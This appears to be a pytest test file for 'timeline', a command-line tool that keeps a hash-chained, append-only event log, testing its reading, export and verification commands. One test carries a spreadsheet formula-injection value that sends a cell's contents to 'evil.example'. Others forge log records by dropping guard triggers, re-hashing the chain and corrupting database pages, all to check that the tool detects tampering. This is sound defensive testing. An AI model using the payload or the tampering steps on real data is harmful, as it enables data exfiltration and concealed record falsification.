"""The reading commands as an analyst uses them: show and events (today, --as-of,
--known-at, both), JSON and CSV output, search, log, verify and rebuild."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest

from timeline.commands import EventInput
from timeline.records import GENESIS_HASH, NewRecord, chain_hash

from tests.conftest import Cli, projection_contents

COLUMNS = "position, stream, version, kind, schema, data, meta, recorded_at, key, hash"

DESIGNED_KEYS = {"id", "type", "date", "precision", "status", "title", "companies", "amounts",
                 "location", "sources", "retracted", "uncertain"}


def as_json(result):
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)


@pytest.fixture
def history(app, clock, cli):
    """Events learned in January 2024, corrected in March, one retracted in April."""

    def add(title, when, type_="factory", companies=(("aesc", "operator"),), fields=()):
        return app.timeline.add_event(EventInput(
            type=type_, companies=list(companies), date=when, title=title, fields=list(fields),
            sources=[{"url": f"https://example.org/{when}", "published": "2024-01-09T08:00:00Z",
                      "quote": f"{title} — 远景动力宣布"}]))

    clock.set("2024-01-10T00:00:00Z")
    ids = {
        "day": add("Sunderland gigafactory", "2012-10-15",
                   fields=[("capacity_gwh", "1.9 GWh"), ("investment", "3.5亿英镑"),
                           ("country", "GB"), ("city", "Sunderland")]),
        "month": add("Month plant", "2012-10"),
        "year": add("Year plant", "2012"),
        "bankruptcy": add("Chapter 11", "2013-03-01", type_="bankruptcy",
                          companies=[("nissan", "company"), ("aesc", "creditor")],
                          fields=[("procedure", "Chapter 11"), ("debt", "US$1.2bn")]),
    }
    clock.set("2024-03-01T00:00:00Z")
    app.timeline.correct_event(ids["day"], [("title", "Sunderland gigafactory opens")], [], "wording")
    clock.set("2024-04-01T00:00:00Z")
    app.timeline.retract_event(ids["month"], "duplicate")
    return ids


@pytest.mark.parametrize("spelling", ["aesc", "AESC", "ＡＥＳＣ", "远景动力", "遠景動力", "远景aesc"])
def test_show_finds_a_company_by_any_spelling(cli: Cli, history, spelling):
    assert as_json(cli("show", spelling, "--format", "json")) == \
        as_json(cli("show", "aesc", "--format", "json"))
    assert len(as_json(cli("show", spelling, "--format", "json"))) == 3


def test_show_json_has_every_designed_field_oldest_first(cli: Cli, history):
    events = as_json(cli("show", "aesc", "--format", "json"))
    assert [e["id"] for e in events] == [history["year"], history["day"], history["bankruptcy"]]
    for event in events:
        assert DESIGNED_KEYS <= set(event)
        assert event["retracted"] is False and event["uncertain"] is False
    year, day, bankruptcy = events
    assert (year["date"], year["precision"]) == ("2012", "year")
    assert (day["date"], day["precision"], day["status"]) == ("2012-10-15", "day", "announced")
    assert day["title"] == "Sunderland gigafactory opens"
    assert day["capacity_gwh"] == 1.9
    assert day["location"] == {"country": "GB", "city": "Sunderland"}
    assert [{k: a[k] for k in ("value", "currency")} for a in day["amounts"]] == [
        {"value": 350_000_000.0, "currency": "GBP"}]
    assert day["sources"] == [{"url": "https://example.org/2012-10-15",
                               "published": "2024-01-09T08:00:00Z",
                               "quote": "Sunderland gigafactory — 远景动力宣布"}]
    assert day["companies"] == [{"id": "aesc", "name": "Envision AESC", "role": "operator",
                                 "reported_as": "aesc"}]
    assert "capacity_gwh" not in year
    assert bankruptcy["procedure"] == "Chapter 11"
    assert {"value": 1_200_000_000.0, "currency": "USD"}.items() <= bankruptcy["amounts"][0].items()
    assert bankruptcy["companies"][0] == {"id": "nissan", "name": "Nissan", "role": "company",
                                          "reported_as": "nissan"}


def test_retracted_events_are_left_out_unless_asked_for(cli: Cli, history):
    ids = lambda *a: [e["id"] for e in as_json(cli(*a, "--format", "json"))]
    assert history["month"] not in ids("show", "aesc")
    assert history["month"] not in ids("events")
    shown = as_json(cli("show", "aesc", "--include-retracted", "--format", "json"))
    month = next(e for e in shown if e["id"] == history["month"])
    assert month["retracted"] is True
    assert history["month"] in ids("events", "--include-retracted")


@pytest.mark.parametrize("command", [["show", "aesc"], ["events"]])
def test_as_of_flags_periods_not_yet_over_as_uncertain(cli: Cli, history, command):
    events = as_json(cli(*command, "--as-of", "2012-10-14", "--format", "json"))
    assert [(e["title"], e["uncertain"]) for e in events] == [("Year plant", True)]
    events = as_json(cli(*command, "--as-of", "2012-10-15", "--format", "json"))
    assert [(e["title"], e["uncertain"]) for e in events] == [
        ("Year plant", True), ("Sunderland gigafactory opens", False)]
    events = as_json(cli(*command, "--as-of", "2012", "--format", "json"))
    assert [e["uncertain"] for e in events] == [False, False]


@pytest.mark.parametrize("command", [["show", "aesc"], ["events"]])
def test_known_at_shows_what_the_log_knew_then(cli: Cli, history, command):
    titles = lambda *a: [e["title"] for e in as_json(cli(*command, *a, "--format", "json"))]
    assert titles("--known-at", "2024-02-01T00:00:00") == [
        "Year plant", "Month plant", "Sunderland gigafactory", "Chapter 11"]
    # the same moment written with an offset
    assert titles("--known-at", "2024-02-01T01:00:00+01:00") == titles("--known-at", "2024-02-01")
    assert titles("--known-at", "2024-03-15") == [
        "Year plant", "Month plant", "Sunderland gigafactory opens", "Chapter 11"]
    assert titles("--known-at", "2023-12-31") == []
    assert titles("--as-of", "2012-10-14", "--known-at", "2024-02-01") == ["Year plant", "Month plant"]
    both = as_json(cli(*command, "--as-of", "2012-10-14", "--known-at", "2024-02-01",
                       "--format", "json"))
    assert [e["uncertain"] for e in both] == [True, True]


@pytest.mark.parametrize(("args", "field"), [
    (["show", "aesc", "--as-of", "2012-13"], "as-of:"),
    (["show", "aesc", "--known-at", "last tuesday"], "known-at:"),
    (["events", "--from", "20x2"], "from:"),
    (["events", "--type", "merger"], "type:"),
    (["events", "--company", "nobody"], "company:"),
    (["show", "nobody"], "company:"),
    (["events", "--from", "2022", "--to", "2020"], "to: 2020 ends before --from 2022"),
    (["search", ""], "query:"),
    (["search", "?!"], "query: '?!' has no word"),
    (["search", "aesc", "--limit", "0"], "--limit"),
    (["search", "aesc", "--limit", "99999999999999999999"], "--limit"),
    (["log", "--from", "0"], "--from"),
    (["log", "--limit", "-1"], "--limit"),
    (["show", "aesc", "--known-at", "0001-01-01T00:30:00+01:00"], "known-at:"),
    (["events", "--known-at", "9999-12-31T23:59:59-05:00"], "known-at:"),
    (["events", "--company", ""], "--company': must not be empty"),
    (["show", "aesc", "--known-at", " "], "--known-at': must not be empty"),
    (["show", "aesc", "--as-of", ""], "--as-of': must not be empty"),
    (["events", "--from", ""], "--from': must not be empty"),
    (["events", "--to", ""], "--to': must not be empty"),
    (["verify", "--head", "xyz"], "'xyz' is not a head hash: give all 64 hexadecimal digits"),
    (["verify", "--head", "ff7c8195"], "is not a head hash"),
])
def test_bad_reading_options_exit_2_naming_the_option(cli: Cli, history, args, field):
    result = cli(*args)
    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert field in result.stderr and "Traceback" not in result.stderr


def test_events_filter_by_type_company_and_dates(cli: Cli, history):
    ids = lambda *a: [e["id"] for e in as_json(cli("events", *a, "--format", "json"))]
    assert ids("--type", "bankruptcy") == [history["bankruptcy"]]
    assert ids("--company", "日产") == [history["bankruptcy"]]
    assert ids("--from", "2013") == [history["bankruptcy"]]
    assert ids("--to", "2012-10-01") == [history["year"]]
    assert ids("--from", "2012-10", "--to", "2012-10") == [history["year"], history["day"]]
    assert ids("--type", "factory", "--type", "bankruptcy") == ids()


def test_csv_cells_that_would_start_a_formula_are_kept_as_text(cli: Cli, history):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert cli("add", "factory", "--company", "catl", "--date", "2024", "--title", title).exit_code == 0
    [row] = [r for r in csv.DictReader(io.StringIO(cli("events", "--company", "catl",
                                                         "--format", "csv").stdout))]
    assert row["title"] == "'" + title
    shown = json.loads(cli("show", "catl", "--format", "json").stdout)
    assert [e["title"] for e in shown] == [title]  # JSON as it is


def test_csv_has_a_header_and_one_row_per_event(cli: Cli, history):
    result = cli("events", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    header = result.stdout.splitlines()[0].split(",")
    assert {"id", "type", "date", "precision", "status", "title", "companies", "amounts",
            "capacity_gwh", "retracted", "uncertain"} <= set(header)
    assert [r["id"] for r in rows] == [history["year"], history["day"], history["bankruptcy"]]
    day = rows[1]
    assert day["amounts"] == "350000000 GBP"              # not 3.5e+08
    assert day["capacity_gwh"] == "1.9"
    assert day["companies"] == "aesc:operator"
    assert day["title"] == "Sunderland gigafactory opens"
    assert rows[2]["amounts"] == "1200000000 USD"
    assert rows[2]["fields"] == "procedure=Chapter 11;debt=1200000000 USD"  # the type's own
    assert day["fields"] == "investment=350000000 GBP"
    assert len(result.stdout.splitlines()) == 1 + 3
    empty = cli("events", "--type", "ipo", "--format", "csv")
    assert empty.stdout.splitlines() == [",".join(header)]


def test_text_output_names_dates_titles_ids_and_flags(cli: Cli, history):
    text = cli("show", "aesc", "--as-of", "2012-10-20").stdout
    assert "Sunderland gigafactory opens" in text and history["day"] in text
    assert "uncertain" in text
    assert cli("show", "catl").stdout.strip() == "No events for catl."


def test_search_finds_chinese_and_english(cli: Cli, history):
    chinese = as_json(cli("search", "远景", "--format", "json"))
    assert sorted(e["id"] for e in chinese) == sorted([history["year"], history["day"],
                                                       history["bankruptcy"]])
    english = as_json(cli("search", "gigafactory", "--format", "json"))
    assert [e["id"] for e in english] == [history["day"]]
    assert "Nothing matches" in cli("search", "solid-state").stdout


def test_search_says_when_more_match_than_it_shows(cli: Cli, history):
    cut = cli("search", "远景", "--limit", "2", "--format", "json")
    assert len(as_json(cut)) == 2
    assert "note: the best 2 shown; more events match (--limit N shows more)" in cut.stderr
    whole = cli("search", "远景", "--limit", "3")
    assert whole.stderr == ""
    largest = cli("search", "远景", "--limit", str(2**63 - 1))
    assert (largest.exit_code, largest.stderr) == (0, "")


def test_a_v1_record_shows_through_the_upcaster(cli: Cli, app):
    app.store.append([NewRecord("event-ev-v1", "event.reported", schema=1, refs=("catl",), data={
        "id": "ev-v1", "type": "factory", "when": "2014-05", "title": "Old report",
        "company_roles": {"catl": "operator"}, "sources": [],
    })])
    [event] = as_json(cli("show", "宁德时代", "--format", "json"))
    assert (event["id"], event["date"], event["precision"]) == ("ev-v1", "2014-05", "month")
    assert event["companies"] == [{"id": "catl", "name": "CATL", "role": "operator", "reported_as": "catl"}]
    [replayed] = as_json(cli("show", "catl", "--as-of", "2014-05-20", "--format", "json"))
    assert replayed["uncertain"] is True
    assert [e["id"] for e in as_json(cli("events", "--known-at", "2030-01-01", "--format", "json"))] == ["ev-v1"]


def test_log_prints_every_record_as_jsonl(cli: Cli, history):
    lines = cli("log", "--format", "jsonl").stdout.splitlines()
    assert len(lines) == cli.records()
    records = [json.loads(line) for line in lines]
    assert [r["position"] for r in records] == list(range(1, len(records) + 1))
    assert set(records[0]) == {"position", "stream", "version", "kind", "schema", "data", "meta",
                               "recorded_at", "key", "hash"}
    tail = cli("log", "--from", "3", "--limit", "2", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line)["position"] for line in tail] == [3, 4]
    assert "company.registered" in cli("log", "--limit", "1").stdout


def test_log_follows_one_stream_or_one_kind(cli: Cli, history):
    assert cli("retract", history["day"], "--reason", "duplicate").exit_code == 0
    stream = f"event-{history['day']}"
    one = [json.loads(line) for line in cli("log", "--stream", stream, "--format", "jsonl").stdout.splitlines()]
    assert {r["stream"] for r in one} == {stream} and one[-1]["kind"] == "event.retracted"
    assert [r["version"] for r in one] == list(range(1, len(one) + 1))
    kinds = cli("log", "--kind", "event.retracted", "--kind", "company.registered", "--format", "jsonl")
    found = [json.loads(line) for line in kinds.stdout.splitlines()]
    assert {r["kind"] for r in found} == {"event.retracted", "company.registered"}
    assert cli("log", "--stream", "event-ev-nothing").stdout == ""
    by_id = cli("log", "--stream", history["day"], "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line) for line in by_id] == one  # the event's id names its stream
    typo = cli("log", "--kind", "event.corected")
    assert typo.exit_code == 2 and "'event.corected' is no kind of record" in typo.stderr


def test_verify_passes_on_an_intact_log(cli: Cli, history):
    result = cli("verify")
    assert result.exit_code == 0
    assert f"OK: {cli.records()} records" in result.stdout


def test_a_head_kept_from_an_earlier_verify_shows_a_rewritten_and_rehashed_log(cli: Cli, history):
    head = cli("verify").stdout.split("hash ")[-1].strip()
    cli("add", "factory", "--company", "catl", "--date", "2024", "--title", "Later plant")
    assert cli("verify", "--head", head).exit_code == 0        # the chain passes through it
    conn = sqlite3.connect(cli.db)                             # a forger re-hashes from record 1
    [guard] = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'records_no_update'").fetchone()
    conn.executescript("DROP TRIGGER records_no_update;")
    prev = GENESIS_HASH
    for row in conn.execute(f"SELECT {COLUMNS} FROM records ORDER BY position").fetchall():
        position, stream, version, kind, schema, data, meta, recorded_at, key, _ = row
        if position == 1:
            data = data.replace("Envision AESC", "Forged Co")
        prev = chain_hash(prev, position, stream, version, kind, schema, data, meta, recorded_at, key)
        conn.execute("UPDATE records SET data = ?, hash = ? WHERE position = ?", (data, prev, position))
    conn.commit()
    conn.executescript(guard + ";")                            # and puts the trigger back
    conn.close()
    assert cli("verify").exit_code == 0                        # the chain alone cannot tell
    caught = cli("verify", "--head", head)
    assert caught.exit_code == 1 and "no longer passes through the head" in caught.stderr


def verify_after(cli: Cli, *statements: str | tuple[str, tuple[object, ...]]) -> str:
    """What `verify` says (exiting 1) after raw SQL run on the file outside timeline."""
    conn = sqlite3.connect(cli.db, isolation_level=None)
    for statement in statements:
        sql, params = statement if isinstance(statement, tuple) else (statement, ())
        conn.execute(sql, params)
    conn.close()
    result = cli("verify")
    assert result.exit_code == 1, result.stdout
    return result.stderr


def test_verify_fails_when_the_append_only_triggers_are_gone(cli: Cli, history):
    said = verify_after(cli, "DROP TRIGGER records_no_delete", "DROP TRIGGER records_appended_only")
    assert ("the triggers that keep the log append-only are gone or changed (records_no_delete, "
            "records_appended_only)") in said


def test_verify_fails_when_a_guard_trigger_was_replaced_by_one_that_refuses_nothing(cli: Cli, history):
    said = verify_after(cli, "DROP TRIGGER records_no_delete",
                        "CREATE TRIGGER records_no_delete BEFORE DELETE ON records WHEN 0 "
                        "BEGIN SELECT RAISE(ABORT, 'x'); END")
    assert "are gone or changed (records_no_delete)" in said


def test_verify_fails_when_records_were_removed_from_the_end(cli: Cli, history):
    """The chain of what is left is intact: only what had read further can tell."""
    head = cli.records()
    conn = sqlite3.connect(cli.db)
    [guard] = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'records_no_delete'").fetchone()
    conn.close()
    said = verify_after(cli, "DROP TRIGGER records_no_delete",
                        ("DELETE FROM records WHERE position = ?", (head,)), guard)
    assert (f"the log ends at position {head - 1}, but the projections had read up to {head}: "
            "records were removed from its end") in said


def test_after_records_were_removed_from_the_end_writes_wait_for_a_restore_or_a_rebuild(
        cli: Cli, history):
    head = cli.records()
    verify_after(cli, "DROP TRIGGER records_no_delete",
                 ("DELETE FROM records WHERE position = ?", (head,)))
    length = cli.records()
    refused = cli("add", "factory", "--company", "catl", "--date", "2020", "--title", "New one")
    assert refused.exit_code == 1 and "records were removed from its end" in refused.stderr
    assert cli.records() == length  # it would have taken the removed record's place
    rebuilt = cli("rebuild")
    assert rebuilt.exit_code == 0, rebuilt.stderr
    assert cli("add", "factory", "--company", "catl", "--date", "2020", "--title", "New one").exit_code == 0


def test_verify_reports_a_damaged_index_and_a_hashed_record_that_is_not_json(cli: Cli, history):
    head = cli.records()
    conn = sqlite3.connect(cli.db, isolation_level=None)
    prev = conn.execute("SELECT hash FROM records WHERE position = ?", (head,)).fetchone()[0]
    forged = chain_hash(prev, head + 1, "event-ev-x", 1, "event.reported", 2, "not json{", "{}",
                        "2030-01-01T00:00:00.000000Z", None)
    conn.execute("INSERT INTO records VALUES (?, 'event-ev-x', 1, 'event.reported', 2, 'not json{', "
                 "'{}', '2030-01-01T00:00:00.000000Z', NULL, ?)", (head + 1, forged))
    conn.close()
    checked = cli("verify")  # the chain holds: verify says so, without reading the record
    assert checked.exit_code == 0 and f"Head: position {head + 1}, hash {forged}" in checked.stdout
    assert "cannot be read: its data is not JSON" in cli("show", "aesc").stderr

    conn = sqlite3.connect(cli.db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    [page] = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'events_id'").fetchone()
    conn.close()
    with open(cli.db, "r+b") as damaged:
        damaged.seek((page - 1) * 4096)
        damaged.write(b"\xff" * 4096)
    result = cli("verify")
    assert result.exit_code == 1 and "the database file is damaged" in result.stderr


def test_verify_exits_non_zero_naming_the_altered_position(cli: Cli, history):
    said = verify_after(cli, "DROP TRIGGER records_no_update",
                        "UPDATE records SET data = json_set(data, '$.title', 'Forged') WHERE position = 7")
    assert "position 7" in said
    assert "6 records before it are intact" in said


def test_rebuild_replays_the_projections_from_scratch(cli: Cli, history, app):
    before = projection_contents(app.db.conn)
    app.db.conn.execute("DELETE FROM events")
    app.db.conn.execute("INSERT INTO events_fts (events_fts) VALUES ('delete-all')")
    assert cli("events", "--format", "json").stdout.strip() == "[]"
    result = cli("rebuild")
    assert result.exit_code == 0
    assert f"from {cli.records()} records" in result.stdout
    assert projection_contents(app.db.conn) == before
    assert len(as_json(cli("events", "--format", "json"))) == 3


def test_reads_are_current_even_after_a_writer_stopped_before_its_catch_up(cli: Cli, app):
    app.store.append([NewRecord("event-ev-raw", "event.reported", schema=2, refs=("aesc",), data={
        "id": "ev-raw", "type": "factory", "date": "2020", "title": "Written by another tool",
        "companies": [{"company": "aesc", "role": "operator"}], "sources": []})])
    assert [e["id"] for e in as_json(cli("events", "--format", "json"))] == ["ev-raw"]
    assert [e["id"] for e in as_json(cli("search", "another tool", "--format", "json"))] == ["ev-raw"]
    assert [e["id"] for e in as_json(cli("show", "aesc", "--format", "json"))] == ["ev-raw"]


def test_a_read_answers_from_one_state_of_the_file_even_when_a_rebuild_starts_midway(
        cli: Cli, history, monkeypatch):
    """A rebuild's first commit empties every projection table. A command that had begun
    reading before it must still answer from the state it began with, not from tables
    emptied between two of its queries (it printed [] and exited 0)."""
    from timeline.bootstrap import bootstrap
    from timeline.queries import LiveQueries

    expected = as_json(cli("show", "aesc", "--format", "json"))
    assert expected
    find_company = LiveQueries.find_company

    def a_rebuild_starts(self: LiveQueries, text: str) -> str | None:
        found = find_company(self, text)
        other = bootstrap(str(cli.config), str(cli.db))   # another process, in effect
        try:
            with other.db.transaction() as conn:
                for projection in other.runner.projections:
                    other.runner._create(conn, projection, rebuilding=True)
        finally:
            other.close()
        return found

    monkeypatch.setattr(LiveQueries, "find_company", a_rebuild_starts)
    assert as_json(cli("show", "aesc", "--format", "json")) == expected


@pytest.mark.parametrize(("data", "problem"), [
    ("not json", "cannot be read: its data is not JSON"),
    ("{}", "projection cannot read records"),
])
def test_a_record_written_outside_timeline_is_named_and_verify_still_runs(
        cli: Cli, history, data, problem):
    head = cli.records()
    conn = sqlite3.connect(cli.db, isolation_level=None)
    conn.execute("INSERT INTO records (position, stream, version, kind, schema, data, meta, "
                 "recorded_at, key, hash) VALUES (?, 'event-ev-zzz', 1, 'event.reported', 2, ?, "
                 "'{\"refs\":[\"aesc\"]}', '2099-01-01T00:00:00Z', NULL, 'x')", (head + 1, data))
    conn.close()
    shown = cli("show", "aesc")
    assert shown.exit_code == 1 and problem in shown.stderr and "Traceback" not in shown.stderr
    verified = cli("verify")
    assert verified.exit_code == 1 and f"position {head + 1}" in verified.stderr


def test_a_damaged_database_file_is_reported_not_a_traceback(cli: Cli, history):
    conn = sqlite3.connect(cli.db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # every page in the file itself
    conn.close()
    size = cli.db.stat().st_size
    with open(cli.db, "r+b") as damaged:  # every page but the first (the schema)
        damaged.seek(4096)
        damaged.write(b"\xff" * (size - 4096))
    result = cli("show", "aesc")
    assert result.exit_code in (1, 2) and "Traceback" not in result.stderr
    assert "damaged" in result.stderr or "not a timeline database" in result.stderr


def test_log_knows_every_kind_of_record_timeline_writes():
    import re

    from timeline import companies, events, proposals
    from timeline.cli.reading import RECORD_KINDS

    written = {value for module in (companies, events, proposals) for value in vars(module).values()
               if isinstance(value, str) and re.fullmatch(r"(?:company|event|proposal|feed)\.[a-z_]+", value)}
    assert written == set(RECORD_KINDS)
